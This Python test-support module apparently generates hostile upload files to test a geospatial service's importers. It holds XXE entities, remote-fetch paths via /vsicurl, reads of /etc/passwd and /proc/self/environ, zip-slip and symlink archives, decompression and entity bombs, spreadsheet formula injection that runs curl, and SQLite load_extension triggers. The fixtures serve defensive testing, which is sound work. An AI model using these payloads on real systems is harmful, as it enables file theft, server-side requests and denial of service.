"""Files as an attacker would upload them, made by code: each tries to fetch, break out or swell."""

import io
import json
import sqlite3
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from pathlib import Path

import numpy as np
import shapely

from shanhai.raster.geotiff import write_geotiff
from shanhai.vector.formats import FILE_FORMATS, FormatName
from shanhai.vector.tables import FeatureColumn, FeatureTable
from shanhai.vector.writer import write_table
from tests.support.workbooks import MAIN, SHEET, write_workbook

FEATURES, RASTER, PLAN = "import-features", "import-dataset", "import-plan"
SQUARE = shapely.MultiPolygon([shapely.box(118, 24, 118.5, 24.5)])
COLUMNS = (FeatureColumn("code", "text"), FeatureColumn("name_zh", "text"))
METRIC = (100.0, 0.0, 500_000.0, 0.0, -100.0, 2_700_000.0)
Made = Iterator[tuple[str, str, bytes]]
"""Name, process that opens it, content."""


def hostile_files(url: str, folder: Path) -> Made:
    """All of them; whatever they name is at `url`, or a file that is nobody's business."""
    yield from _texts(url)
    yield from _geojson(url)
    yield from _markup(url)
    yield from _archives(url, folder)
    yield from _workbooks(url, folder)
    yield from _databases(url, folder)
    yield from _damaged(folder)
    yield from _rasters(url, folder)
    yield from _plans(url)


def _places(url: str) -> dict[str, str]:
    """Ways to name something elsewhere."""
    return {
        "address": url,
        "path of curl": f"/vsicurl/{url}",
        "streamed": f"/vsicurl_streaming/{url}",
        "in a zip": f"/vsizip//vsicurl/{url}/a.zip/a.shp",
        "in a tar": f"/vsitar//vsicurl/{url}/a.tar/a.shp",
        "unpacked": f"/vsigzip//vsicurl/{url}/a.gz",
        "part of a file": f"/vsisubfile/0_100,/vsicurl/{url}",
        "bucket": "/vsis3/bucket/key",
        "web files": f"/vsiwebhdfs/{url}/a",
        "file of the system": "/etc/passwd",
        "own environment": "/proc/self/environ",
        "FTP": url.replace("http:", "ftp:"),
    }


def _texts(url: str) -> Made:
    for name, place in _places(url).items():
        yield f"text: {name}", FEATURES, place.encode()
        yield f"raster as text: {name}", RASTER, place.encode()
    for name, cell in {
        "formula": f'=WEBSERVICE("{url}")',
        "exchange": f"=cmd|' /C curl {url}'!A0",
        "plus": f'+IMPORTXML("{url}","//a")',
        "link": f'@HYPERLINK("{url}")',
    }.items():
        quoted = cell.replace('"', '""')
        yield f"CSV: {name}", FEATURES, f'code,name_zh,wkt\n"{quoted}","{quoted}",\n'.encode()
    yield "CSV: a cell without end", FEATURES, b'code,name_zh,wkt\n"' + b"a" * 5_000_000
    yield "CSV: columns without end", FEATURES, b"," * 2_000_000 + b"\n1\n"
    yield "CSV: NUL", FEATURES, b"code,name_zh\n\x00,\x00\n"
    yield "CSV: deep geometry", FEATURES, _deep_wkt()
    yield "CSV: huge count", FEATURES, b"code,wkt\na,LINESTRING(1e308 1e308, -1e308 nan)\n"
    yield "CSV: half a character", FEATURES, "code,name_zh\na,区".encode()[:-1]


def _deep_wkt() -> bytes:
    depth = 3_000
    return b'code,wkt\na,"' + b"GEOMETRYCOLLECTION(" * depth + b"POINT(1 1)" + b")" * depth + b'"\n'


def _geojson(url: str) -> Made:
    point = '{"type": "Point", "coordinates": [118.1, 24.5]}'

    def document(crs: str = "", geometry: str = point) -> bytes:
        head = f'"crs": {crs}, ' if crs else ""
        feature = f'{{"type": "Feature", "properties": {{"code": "a"}}, "geometry": {geometry}}}'
        return f'{{"type": "FeatureCollection", {head}"features": [{feature}]}}'.encode()

    for name, place in _places(url).items():
        link = json.dumps({"type": "link", "properties": {"href": place, "type": "ogcwkt"}})
        yield f"GeoJSON: system by link, {name}", FEATURES, document(link)
        named = json.dumps({"type": "name", "properties": {"name": place}})
        yield f"GeoJSON: system by name, {name}", FEATURES, document(named)
        typed = json.dumps({"type": "URL", "properties": {"url": place}})
        yield f"GeoJSON: system by URL, {name}", FEATURES, document(typed)
    for name, geometry in {
        "no number": '{"type": "Point", "coordinates": [NaN, 24.5]}',
        "text": '{"type": "Point", "coordinates": ["118", "24"]}',
        "huge": '{"type": "Point", "coordinates": [1e999, 1e999]}',
        "deep": '{"type": "Polygon", "coordinates": ' + "[" * 20_000 + "]" * 20_000 + "}",
        "collection in collection": '{"type":"GeometryCollection","geometries":[' * 500
        + "]}" * 500,
        "link": f'{{"$ref": "{url}"}}',
    }.items():
        yield f"GeoJSON: geometry, {name}", FEATURES, document(geometry=geometry)
    yield "TopoJSON", FEATURES, f'{{"type":"Topology","arcs":[],"crs":"{url}"}}'.encode()
    page = f'{{"type":"FeatureCollection","features":[],"links":[{{"href":"{url}"}}]}}'
    yield "GeoJSON: page of a service", FEATURES, page.encode()
    yield "GeoJSON: cut off", FEATURES, document()[:-20]
    yield "GeoJSON: deep members", FEATURES, b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    yield "GeoJSON: wide numbers", FEATURES, document().replace(b"118.1", b"1" * 1_000_000)


def _markup(url: str) -> Made:
    kml = '<kml xmlns="http://www.opengis.net/kml/2.2">'
    bomb = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    for name, place in _places(url).items():
        yield (
            f"KML: network link, {name}",
            FEATURES,
            f"{kml}<Document><NetworkLink><Link><href>{place}</href></Link></NetworkLink>"
            "<Placemark><Point><coordinates>118,24</coordinates></Point></Placemark>"
            "</Document></kml>".encode(),
        )
        yield (
            f"KML: entity, {name}",
            FEATURES,
            f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{place}">]>{kml}<Document>'
            "<name>&x;</name></Document></kml>".encode(),
        )
        yield (
            f"VRT of features, {name}",
            FEATURES,
            f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{place}</SrcDataSource>'
            "</OGRVRTLayer></OGRVRTDataSource>".encode(),
        )
    yield "KML: bomb", FEATURES, f'<!DOCTYPE k [<!ENTITY a0 "a">{bomb}]>{kml}&a9;</kml>'.encode()
    yield "KML: schema", FEATURES, f'<!DOCTYPE kml SYSTEM "{url}">{kml}</kml>'.encode()
    yield "KML: inclusion", FEATURES, f'{kml}<x:include href="{url}"/></kml>'.encode()
    yield "KML: deep", FEATURES, (kml + "<Folder>" * 20_000).encode()
    yield (
        "GML",
        FEATURES,
        f'<FeatureCollection xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="{url} {url}"/>'.encode(),
    )
    yield (
        "GML: entity",
        FEATURES,
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}">]><gml>&x;</gml>'.encode(),
    )
    yield "SLD", FEATURES, f'<StyledLayerDescriptor><OnlineResource href="{url}"/></a>'.encode()
    yield "GPX", FEATURES, f'<gpx><link href="{url}"/></gpx>'.encode()
    yield "WFS", FEATURES, f"<OGRWFSDataSource><URL>{url}</URL></OGRWFSDataSource>".encode()
    yield "SVG", FEATURES, f'<svg><image href="{url}"/></svg>'.encode()


def _zip(members: Mapping[str, bytes], *, mode: int = 0o100644) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return made.getvalue()


def _written(folder: Path, name: FormatName) -> bytes:
    epsg = 4326 if FILE_FORMATS[name].only_degrees else 4490
    path = folder / f"made{FILE_FORMATS[name].suffix}"
    path.unlink(missing_ok=True)
    rows = [[shapely.to_wkb(SQUARE), f"a.{number}", "区"] for number in range(3)]
    write_table(path, FeatureTable("things", COLUMNS, [rows], "MultiPolygon", epsg), name)
    return path.read_bytes()


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _archives(url: str, folder: Path) -> Made:
    shape = _members(_written(folder, "shp"))
    stem = next(name for name in shape if name.endswith(".shp")).removesuffix(".shp")
    for name in ("../evil.shp", "/etc/evil.shp", "a/../../evil.shp", "C:/evil.shp", "a\\..\\b.shp"):
        yield f"zip: member {name}", FEATURES, _zip({**shape, name: b"x"})
    link = stat.S_IFLNK | 0o777
    for target in ("/etc/passwd", "/proc/self/environ", "../../../secret"):
        linked = _zip({f"{stem}.shp": target.encode()}, mode=link)
        yield f"zip: link to {target}", FEATURES, linked
    yield "zip: swells", FEATURES, _zip({**shape, f"{stem}.dbf": bytes(300 * 1024**2)})
    yield "zip: many members", FEATURES, _zip({f"a{n}.txt": b"" for n in range(2_000)})
    yield "zip: in a zip", FEATURES, _zip({"inner.zip": _zip(shape)})
    yield "zip: promises little", FEATURES, _lying(_zip({f"{stem}.shp": bytes(50_000_000)}))
    yield (
        "zip: encrypted",
        FEATURES,
        _zip(shape).replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
        ),
    )
    yield "zip: cut off", FEATURES, _zip(shape)[:-30]
    yield "zip: without an end", FEATURES, b"PK\x03\x04" + bytes(100)
    for name, place in _places(url).items():
        system = f'PROJCS["a",EXTENSION["PROJ4_GRIDS","{place}"]]'.encode()
        yield f"shapefile: system, {name}", FEATURES, _zip({**shape, f"{stem}.prj": system})
    yield "shapefile: code page", FEATURES, _zip({**shape, f"{stem}.cpg": url.encode()})
    for suffix, lies in _lies(shape, stem).items():
        for what, content in lies.items():
            changed = {**shape, f"{stem}{suffix}": content}
            yield f"shapefile: {suffix} {what}", FEATURES, _zip(changed)
    yield "shapefile: a VRT by that name", FEATURES, _zip({**shape, f"{stem}.shp": b"<OGRVRT/>"})
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../evil"))
    yield "tar", FEATURES, tar.getvalue()
    meta = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}">]><archive>&x;</archive>'.encode()
    yield "Darwin Core: entity", FEATURES, _zip({"meta.xml": meta})
    core = (
        f'<archive><core rowType="{url}"><files><location>{url}</location></files></core></archive>'
    )
    yield "Darwin Core: address", FEATURES, _zip({"meta.xml": core.encode()})
    outside = core.replace(f"<location>{url}", "<location>../../etc/passwd")
    yield "Darwin Core: outside", FEATURES, _zip({"meta.xml": outside.encode()})


def _lying(content: bytes) -> bytes:
    """The same zip with sizes that promise a hundred bytes."""
    changed = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = content.index(mark)
        changed[start + place : start + place + 4] = struct.pack("<I", 100)
    return bytes(changed)


def _lies(shape: Mapping[str, bytes], stem: str) -> dict[str, dict[str, bytes]]:
    shp, shx, dbf = (bytearray(shape[stem + suffix]) for suffix in (".shp", ".shx", ".dbf"))
    most = struct.pack(">i", 2**31 - 1)
    return {
        ".shp": {
            "of no length": bytes(shp[:24]) + bytes(4) + bytes(shp[28:]),
            "of every length": bytes(shp[:24]) + most + bytes(shp[28:]),
            "with a huge record": bytes(shp[:104]) + most + bytes(shp[108:]),
            "with many parts": bytes(shp[:144]) + struct.pack("<i", 2**31 - 1) + bytes(shp[148:]),
            "with parts below none": bytes(shp[:144]) + struct.pack("<i", -1) + bytes(shp[148:]),
            "cut off": bytes(shp[:110]),
        },
        ".shx": {
            "pointing outside": bytes(shx[:100]) + most + bytes(shx[104:]),
            "pointing before": bytes(shx[:100]) + struct.pack(">i", -50) + bytes(shx[104:]),
            "cut off": bytes(shx[:90]),
        },
        ".dbf": {
            "with all rows": bytes(dbf[:4]) + b"\xff\xff\xff\x7f" + bytes(dbf[8:]),
            "of no header": bytes(dbf[:8]) + bytes(2) + bytes(dbf[10:]),
            "with long rows": bytes(dbf[:10]) + b"\xff\xff" + bytes(dbf[12:]),
            "cut off": bytes(dbf[:20]),
        },
    }


def _workbooks(url: str, folder: Path) -> Made:
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{url}">]><worksheet xmlns="{MAIN}">&a;</worksheet>'
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="x/worksheet" Target="{url}" TargetMode="External"/>'
        "</Relationships>"
    )
    others: dict[str, dict[str, str]] = {
        "entity": {SHEET: entity},
        "macros": {"xl/vbaProject.bin": "x"},
        "external link": {"xl/externalLinks/externalLink1.xml": f'<x href="{url}"/>'},
        "relation": {"xl/_rels/workbook.xml.rels": relation},
        "outside": {"../evil.xml": "x"},
        "connections": {"xl/connections.xml": f'<connections><a url="{url}"/></connections>'},
        "swelling texts": {"xl/sharedStrings.xml": "a" * 300_000_000},
        "damaged": {SHEET: "<worksheet><row>"},
    }
    for name, members in others.items():
        path = write_workbook(folder / "made.xlsx", {"S": [("code",), ("a",)]}, others=members)
        yield f"workbook: {name}", FEATURES, path.read_bytes()
    cells = [("code", "name_zh"), (f'=WEBSERVICE("{url}")', f'=HYPERLINK("{url}")')]
    path = write_workbook(folder / "made.xlsx", {"S": cells})
    yield "workbook: formulas", FEATURES, path.read_bytes()


STATEMENTS = {
    "view": "CREATE VIEW evil AS SELECT load_extension('/tmp/evil.so')",
    "layer that is a view": "CREATE VIEW things2 AS SELECT * FROM things",
    "trigger": "CREATE TRIGGER evil AFTER INSERT ON things BEGIN SELECT load_extension('x'); END",
    "virtual table": "CREATE VIRTUAL TABLE evil USING fts4(a)",
    "index that computes": "CREATE INDEX evil ON things (length(code))",
    "endless view": "CREATE VIEW evil AS WITH RECURSIVE a(n) AS (SELECT 1 UNION ALL SELECT n + 1"
    " FROM a) SELECT * FROM a",
    "renamed layer": "UPDATE gpkg_contents SET table_name = 'sqlite_master'",
    "two layers of one table": "INSERT INTO gpkg_contents SELECT 'b', data_type, 'b', '',"
    " last_change, 0, 0, 0, 0, srs_id FROM gpkg_contents",
    "wrong extent": "UPDATE gpkg_contents SET min_x = 'a', max_x = 9e999",
    "extension": "INSERT INTO gpkg_extensions VALUES ('things', 'geom', 'evil', '{url}',"
    " 'read-write')",
    "geometry that is none": "UPDATE things SET geom = x'4750000100'",
    "geometry of text": "UPDATE things SET geom = '{url}'",
    "huge geometry": "UPDATE things SET geom = zeroblob(20000000)",
}


def _databases(url: str, folder: Path) -> Made:
    whole = _written(folder, "gpkg")

    def changed(statement: str, *values: str) -> bytes:
        path = folder / "changed.gpkg"
        path.write_bytes(whole)
        connection = sqlite3.connect(path)
        # SpatiaLite's functions, which the triggers of the file ask for, are GDAL's.
        for function, count in (("ST_IsEmpty", 1), ("ST_MinX", 1), ("ST_MaxX", 1), ("ST_MinY", 1)):
            connection.create_function(function, count, lambda *given: 0)
        connection.create_function("ST_MaxY", 1, lambda given: 0)
        with connection:
            connection.execute(statement.replace("{url}", url), values)
        connection.close()
        return path.read_bytes()

    for name, statement in STATEMENTS.items():
        yield f"GeoPackage: {name}", FEATURES, changed(statement)
    for name, place in _places(url).items():
        definition = "UPDATE gpkg_spatial_ref_sys SET definition = ?, organization = 'none'"
        yield f"GeoPackage: system, {name}", FEATURES, changed(definition, place)
    yield "GeoPackage: pages broken", FEATURES, whole[:2048] + bytes(4096) + whole[6144:]
    yield "GeoPackage: cut off", FEATURES, whole[:5000]
    yield "SQLite without layers", FEATURES, b"SQLite format 3\x00" + bytes(84)


FORMATS: tuple[FormatName, ...] = ("fgb", "parquet", "gpkg", "shp", "kml", "geojsonseq")


def _damaged(folder: Path) -> Made:
    """What tools write, with bytes changed at places chosen by a fixed seed."""
    random = np.random.default_rng(20260701)
    for name in FORMATS:
        whole = _written(folder, name)
        for number in range(4):
            changed = bytearray(whole)
            for place in random.integers(8, len(whole), 1 + len(whole) // 200):
                changed[place] = int(random.integers(256))
            yield f"{name}: damaged {number}", FEATURES, bytes(changed)
        yield f"{name}: first half", FEATURES, whole[: len(whole) // 2]
        yield f"{name}: under a raster's process", RASTER, whole
    yield "Parquet: footer of any length", FEATURES, b"PAR1" + b"\xff\xff\xff\x7fPAR1"
    yield "FlatGeobuf: header of any length", FEATURES, b"fgb\x03fgb\x00" + b"\xff\xff\xff\x7f"


def _rasters(url: str, folder: Path) -> Made:
    path = folder / "made.tif"
    write_geotiff(path, np.ones((8, 8)), transform=METRIC, crs="EPSG:4548")
    whole = path.read_bytes()
    for name, place in _places(url).items():
        vrt = (
            '<VRTDataset rasterXSize="8" rasterYSize="8"><VRTRasterBand dataType="Byte" band="1">'
            f"<SimpleSource><SourceFilename>{place}</SourceFilename></SimpleSource>"
            "</VRTRasterBand></VRTDataset>"
        )
        yield f"VRT, {name}", RASTER, vrt.encode()
        yield f"TIFF with foreign overviews, {name}", RASTER, _tagged(path, place)
    for width, height in ((2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (10**6, 10**6), (0, 0)):
        yield f"TIFF of {width} by {height}", RASTER, _sized(whole, width, height)
    yield "TIFF: cut off", RASTER, whole[:60]
    yield (
        "TIFF: directory in a circle",
        RASTER,
        b"II*\x00\x08\x00\x00\x00" + struct.pack("<HI", 0, 8),
    )
    yield "TIFF: large, cut off", RASTER, b"II+\x00\x08\x00\x00\x00" + struct.pack("<Q", 2**63)
    yield "PNG of any size", RASTER, _png(2**31 - 1)
    wms = f"<GDAL_WMS><Service><ServerUrl>{url}</ServerUrl></Service></GDAL_WMS>"
    yield "WMS", RASTER, wms.encode()
    wmts = f"<GDAL_WMTS><GetCapabilitiesUrl>{url}</GetCapabilitiesUrl></GDAL_WMTS>"
    yield "WMTS", RASTER, wmts.encode()
    yield (
        "tile index",
        RASTER,
        f"<GDALTileIndexDataset><I>{url}</I></GDALTileIndexDataset>".encode(),
    )
    stac = f'{{"type":"FeatureCollection","stac_version":"1.0.0","assets":"{url}"}}'
    yield "STAC", RASTER, stac.encode()
    random = np.random.default_rng(7)
    for number in range(8):
        changed = bytearray(whole)
        for place in random.integers(8, min(len(whole), 400), 6):
            changed[place] = int(random.integers(256))
        yield f"TIFF: damaged {number}", RASTER, bytes(changed)


def _tagged(path: Path, place: str) -> bytes:
    import rasterio

    changed = path.with_name("tagged.tif")
    changed.write_bytes(path.read_bytes())
    with rasterio.open(changed, "r+", driver="GTiff") as file:
        file.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=place)
    return changed.read_bytes()


def _sized(whole: bytes, width: int, height: int) -> bytes:
    """The TIFF with other sizes in its first directory."""
    changed = bytearray(whole)
    (start,) = struct.unpack_from("<I", whole, 4)
    (entries,) = struct.unpack_from("<H", whole, start)
    for number in range(entries):
        entry = start + 2 + 12 * number
        (tag,) = struct.unpack_from("<H", whole, entry)
        if tag in (256, 257):
            size = width if tag == 256 else height
            struct.pack_into("<HHII", changed, entry, tag, 4, 1, size)
    return bytes(changed)


def _png(size: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


def _plans(url: str) -> Made:
    document = f'{{"plan": {{"code": "a", "href": "{url}"}}}}'.encode()
    yield "package: a document alone", PLAN, _zip({"plan.json": document})
    yield "package: outside", PLAN, _zip({"../plan.json": document})
    yield "package: link", PLAN, _zip({"plan.json": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777)
    yield "package: swells", PLAN, _zip({"plan.json": bytes(200 * 1024**2)})
    yield "package: no zip", PLAN, document
    yield "package: empty", PLAN, b""


def inputs_of(process: str) -> dict[str, object]:
    """What a job of the process asks for beside the file."""
    upload = "00000000-0000-4000-8000-000000000000"
    asked: dict[str, Callable[[], dict[str, object]]] = {
        FEATURES: partial(dict, upload=upload, collection="regions", mode="valid_rows"),
        RASTER: partial(dict, upload=upload, region="a", theme="rainfall"),
        PLAN: partial(dict, upload=upload),
    }
    return asked[process]()
